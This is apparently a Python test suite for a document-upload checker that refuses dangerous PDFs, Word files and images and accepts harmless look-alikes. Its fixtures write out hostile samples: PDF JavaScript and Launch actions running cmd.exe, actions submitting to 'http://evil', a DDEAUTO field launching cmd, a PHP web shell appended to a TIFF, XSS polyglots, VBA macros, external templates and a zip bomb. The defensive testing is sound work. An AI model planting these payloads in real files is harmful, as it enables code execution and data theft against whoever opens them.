"""Files made to harm whoever opens them: each is refused with a reason of its own, and what is only similar is taken."""

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from tests.builders.documents import MACRO_TYPE, a_docx, a_pdf, a_pdf_of, a_picture, a_zip

from dancu.documents.domain.kinds import MediaType
from dancu.documents.domain.refusals import (
    DamagedFile,
    FileActs,
    FileHoldsFiles,
    FileLocked,
    FileReachesOut,
    FileUnpacksTooFar,
    FileWithMacros,
    PictureTooLarge,
    TwoKinds,
    UnknownKind,
)
from dancu.documents.opening import look_into

PAGES = b"/Type/Catalog/Pages 2 0 R"
THE_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"/Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]"
COMPOUND = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500)
VBA = COMPOUND + "_VBA_PROJECT".encode("utf-16-le")
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def a_pdf_with(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    return a_pdf_of([b"<<%b%b>>" % (PAGES, catalog), THE_PAGES, b"<<%b%b>>" % (PAGE, page), *more])


def packed(*objects: bytes) -> bytes:
    """Return a PDF whose further objects, from number 4 on, are packed into a stream, where no search for words finds them."""
    body = b" ".join(objects)
    places, at = [], 0
    for number, each in enumerate(objects, 5):
        places.append(b"%d %d" % (number, at))
        at += len(each) + 1
    head = b" ".join(places) + b" "
    data = zlib.compress(head + body)
    stream = b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n%b\nendstream" % (
        *(len(objects), len(head), len(data), data),
    )
    plain = [b"<<%b/OpenAction 5 0 R>>" % PAGES, THE_PAGES, b"<<%b>>" % PAGE, stream]
    content = b"%PDF-1.7\n"
    rows = [struct.pack(">BHB", 0, 0, 0)]
    for number, each in enumerate(plain, 1):
        rows.append(struct.pack(">BHB", 1, len(content), 0))
        content += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    rows += [struct.pack(">BHB", 2, 4, place) for place in range(len(objects))]
    start = len(content)
    rows.append(struct.pack(">BHB", 1, start, 0))
    table = b"".join(rows)
    count = len(rows)
    return content + (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 2 1]/Root 1 0 R/Length %d>>\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (count - 1, count, len(table), table, start)
    )


def locked(password: str) -> bytes:
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(a_pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=password))
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (a_pdf_with(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), FileActs),
        (a_pdf_with(b"/OpenAction<</S/JavaScript/JS 4 0 R>>", b"", b"<</Length 2>>\nstream\n1;\nendstream"), FileActs),
        (a_pdf_with(b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"), FileActs),
        (a_pdf_with(b"/OpenAction<</S/J#61vaScript/#4a#53(1)>>"), FileActs),
        (packed(b"<</S/JavaScript/JS(app.alert)>>", b"<<>>"), FileActs),
        (a_pdf_with(b"", b"/AA<</O<</S/JavaScript/JS(1)>>>>"), FileActs),
        (a_pdf_with(b"", b"/Annots[<</Subtype/Widget/FT/Tx/AA<</K<</S/JavaScript/JS(1)>>>>>>]"), FileActs),
        (a_pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), FileActs),
        (a_pdf_with(b"", b"/Annots[<</Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>>>]"), FileActs),
        (a_pdf_with(b"", b"/Annots[<</Subtype/RichMedia>>]"), FileActs),
        (a_pdf_with(b"", b"/Annots[<</Subtype/Screen/A<</S/Rendition>>>>]"), FileActs),
        (a_pdf_with(b"", b"/Annots[<</Subtype/Link/A<</S/SubmitForm/F(http://evil)>>>>]"), FileActs),
        (a_pdf_with(b"/AcroForm<</Fields[]/XFA(<xdp/>)>>"), FileActs),
        (a_pdf_with(b"/Names<</EmbeddedFiles<</Names[]>>>>"), FileHoldsFiles),
        (a_pdf_with(b"/AF[<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]", b"", b"<<>>"), FileHoldsFiles),
        (a_pdf_with(b"", b"", b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream"), FileHoldsFiles),
        (a_pdf_with(b"/OpenAction<</S/URI/URI(http://evil)>>"), FileReachesOut),
        (a_pdf_with(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil)>>>>"), FileReachesOut),
        (a_pdf_with(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://evil)>>]>>"), FileReachesOut),
        (a_pdf_with(b"/OpenAction 4 0 R", b"", b"<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"), FileReachesOut),
        (a_pdf_with(b"", b"/AA<</O<</S/GoToR/F(\\\\\\\\evil\\\\x)/D[0/Fit]>>>>"), FileReachesOut),
        (a_pdf_with(b"", b"", b"<</F(http://evil)/Length 1>>\nstream\n1\nendstream"), FileReachesOut),
        (locked("secret"), FileLocked),
        (a_pdf_of([b"<<%b>>" % PAGES, b"<</Type/Pages/Kids[]/Count 0>>"]), DamagedFile),
        (b"%PDF-1.7\nno objects at all\nstartxref\n9\n%%EOF\n", DamagedFile),
    ],
)
def test_a_pdf_that_does_more_than_show_pages_is_refused(content: bytes, refusal: type[Exception]) -> None:
    with pytest.raises(refusal):
        look_into(content)


@pytest.mark.parametrize(
    "content",
    [
        a_pdf_with(b"/OpenAction[3 0 R/FitH null]"),
        a_pdf_with(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
        a_pdf_with(b"", b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://dichvucong.gov.vn)>>>>]"),
        a_pdf_with(b"", b"/Contents 4 0 R", b"<</Length 15>>\nstream\n(/JS /Launch) Tj\nendstream"),
        a_pdf_with(b"/Pad(" + bytes(1100) + b")/Info<</Title(/JavaScript and <script> for beginners)>>"),
        packed(b"<</S/GoTo/D[3 0 R/Fit]>>", b"<<>>"),
        locked(""),
    ],
    ids=[
        "a place",
        "an action to a place",
        "a hyperlink",
        "words in a text",
        "words in a title",
        "packed",
        "no printing",
    ],
)
def test_a_pdf_that_only_shows_pages_is_taken(content: bytes) -> None:
    kind, pictures = look_into(content)
    assert kind is MediaType.PDF
    assert len(pictures) == 2


def behind(content: bytes, tail: bytes) -> bytes:
    return content + tail


def a_jpeg_saying(comment: bytes) -> bytes:
    whole = a_picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + whole[2:]


@pytest.mark.parametrize(
    "content",
    [
        behind(a_pdf(), a_zip({"evil.class": b"1"})),
        behind(a_picture("JPEG"), a_zip({"evil.class": b"1"})),
        behind(a_picture("PNG"), b"Rar!\x1a\x07\x01\x00" + bytes(50)),
        behind(a_picture("PNG"), b"7z\xbc\xaf\x27\x1c" + bytes(50)),
        behind(a_picture("JPEG"), b"<html><script>alert(1)</script>"),
        behind(a_picture("TIFF"), b"<?php system($_GET[0]); ?>"),
        behind(a_pdf(), b"<script>alert(1)</script>"),
        a_pdf()[:9] + b"%<!DOCTYPE html><body>\n" + a_pdf()[9:],
        a_jpeg_saying(b"*/=1;</style><SCRIPT >alert(1)</script>"),
        a_jpeg_saying(b"<hta:application id=x>"),
        a_jpeg_saying(b"<svg/onload=alert(1)>"),
        a_jpeg_saying(a_pdf()),
        a_docx(more={"%PDF-1.4 1 0 obj.txt": b""}),
    ],
)
def test_a_file_that_is_also_another_is_refused(content: bytes) -> None:
    with pytest.raises((TwoKinds, DamagedFile)) as refused:
        look_into(content)
    assert refused.type is TwoKinds


@pytest.mark.parametrize(
    "content",
    [
        b"GIF89a/*" + bytes(20) + b"*/=alert(1)",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        b"\xef\xbb\xbf<svg/>",
        b"RIFF\x24\x00\x00\x00WEBPVP8 ",
        COMPOUND,
        a_zip({"evil.exe": b"MZ"}),
    ],
    ids=["GIF and script", "SVG", "SVG with a head", "SVG with a mark", "WebP", "old Word", "archive"],
)
def test_a_kind_that_is_not_taken_is_refused_by_that_reason(content: bytes) -> None:
    with pytest.raises(UnknownKind):
        look_into(content)


def related(kind: str, mode: str = "", **more: bytes) -> bytes:
    link = f"<Relationship Id='1' Type='{RELATIONS}/{kind}' Target='x'{mode and f' TargetMode={mode}'}/>"
    parts = {"word/_rels/document.xml.rels": f"<Relationships>{link}</Relationships>".encode()}
    return a_docx(more=parts | {name.replace("__", "/"): content for name, content in more.items()})


def with_field(*pieces: str, simple: bool = False) -> bytes:
    begin = "<w:fldChar w:fldCharType='begin'/>"
    text = begin + "".join(f"<w:instrText>{each}</w:instrText>" for each in pieces)
    if simple:
        text = f"<w:fldSimple w:instr='{pieces[0]}'/>"
    return a_docx(more={"word/header1.xml": f"<w:document xmlns:w='{W}'>{text}</w:document>".encode()})


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (a_docx(more={"word/vbaProject.bin": b"Sub AutoOpen()"}), FileWithMacros),
        (a_docx(more={"word/media/image1.png": VBA}), FileWithMacros),
        (a_docx(content_type=MACRO_TYPE), FileWithMacros),
        (a_docx(content_type="application/vnd.ms-office.vbaProject"), FileWithMacros),
        (related("vbaProject"), FileWithMacros),
        (related("oleObject"), FileHoldsFiles),
        (related("aFChunk"), FileHoldsFiles),
        (related("control"), FileHoldsFiles),
        (a_docx(more={"word/embeddings/oleObject1.bin": COMPOUND}), FileHoldsFiles),
        (a_docx(more={"word/media/image1.png": b"MZ\x90" + bytes(99)}), FileHoldsFiles),
        (a_docx(more={"word/media/image1.png": a_zip({"a": b"1"})}), FileHoldsFiles),
        (related("attachedTemplate", "'External'"), FileReachesOut),
        (related("image", "'External'"), FileReachesOut),
        (related("oleObject", "'External'"), FileReachesOut),
        (related("image", "'&#69;xternal'"), FileReachesOut),
        (with_field(' DDEAUTO c:\\windows\\cmd.exe "/k calc"'), FileReachesOut),
        (with_field(" DD", "EAUTO ", "cmd"), FileReachesOut),
        (with_field(' INCLUDEPICTURE "http://evil/x.png" \\d', simple=True), FileReachesOut),
        (a_docx(more={"word/media/bomb.bin": bytes(101 * 1024 * 1024)}), FileUnpacksTooFar),
        (a_docx(more={f"word/{number}.xml": b"<a/>" for number in range(5001)}), FileUnpacksTooFar),
        (a_docx(more={"word/x.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), DamagedFile),
        (a_docx(more={"word/x.xml": "<!DOCTYPE a><a/>".encode("utf-16")}), DamagedFile),
        (a_docx(more={"WORD/document.xml": b"<document/>"}), DamagedFile),
    ],
)
def test_a_text_document_that_acts_fetches_or_hides_is_refused(content: bytes, refusal: type[Exception]) -> None:
    with pytest.raises(refusal):
        look_into(content)


@pytest.mark.parametrize(
    "content",
    [related("hyperlink", "'External'"), related("image"), with_field(" PAGE ", ""), with_field(' REF "dde" ')],
    ids=["a hyperlink", "its own picture", "a page number", "a reference"],
)
def test_a_text_document_of_text_is_taken(content: bytes) -> None:
    assert look_into(content) == (MediaType.DOCX, [])


def test_a_macro_document_under_the_name_of_a_picture_or_a_pdf_is_refused_all_the_same() -> None:
    with pytest.raises(FileWithMacros):  # names count for nothing: `look_into` is never told any
        look_into(a_docx(content_type=MACRO_TYPE, more={"word/vbaProject.bin": VBA}))


def test_a_zip_that_says_less_than_it_holds_is_refused() -> None:
    whole = bytearray(a_docx(more={"word/media/a.bin": b"x" * 1000}))
    with zipfile.ZipFile(io.BytesIO(bytes(whole))) as archive:
        assert archive.getinfo("word/media/a.bin").file_size == 1000
    at = whole.rfind(b"PK\x01\x02")
    struct.pack_into("<I", whole, at + 24, 10)
    with pytest.raises(DamagedFile):
        look_into(bytes(whole))


@pytest.mark.parametrize(("width", "height"), [(30_000, 30_000), (30_000, 1), (15_000, 15_000)])
@pytest.mark.parametrize("kind", ["PNG", "TIFF"])
def test_a_picture_of_thirty_thousand_pixels_a_side_is_refused(kind: str, width: int, height: int) -> None:
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, kind, **({"compression": "group4"} if kind == "TIFF" else {}))
    with pytest.raises(PictureTooLarge):
        look_into(out.getvalue())


def test_a_tiff_whose_second_page_is_too_large_is_refused() -> None:
    out = io.BytesIO()
    pages = [Image.new("1", (10, 10)), Image.new("1", (30_000, 10))]
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:])
    with pytest.raises(PictureTooLarge):
        look_into(out.getvalue())


def test_a_tiff_whose_pages_lead_back_to_the_first_is_refused() -> None:
    whole = bytearray(a_picture("TIFF"))
    (first,) = struct.unpack_from("<I", whole, 4)
    (amount,) = struct.unpack_from("<H", whole, first)
    struct.pack_into("<I", whole, first + 2 + 12 * amount, first)
    with pytest.raises(DamagedFile):
        look_into(bytes(whole))


def test_a_picture_whose_pixels_cannot_be_read_is_refused() -> None:
    whole = a_picture("PNG")
    broken = zlib.compress(b"\x09" * 20)
    at = whole.index(b"IDAT") - 4
    end = whole.index(b"IEND") - 4
    chunk = struct.pack(">I", len(broken)) + b"IDAT" + broken + struct.pack(">I", zlib.crc32(b"IDAT" + broken))
    with pytest.raises(DamagedFile):
        look_into(whole[:at] + chunk + whole[end:])
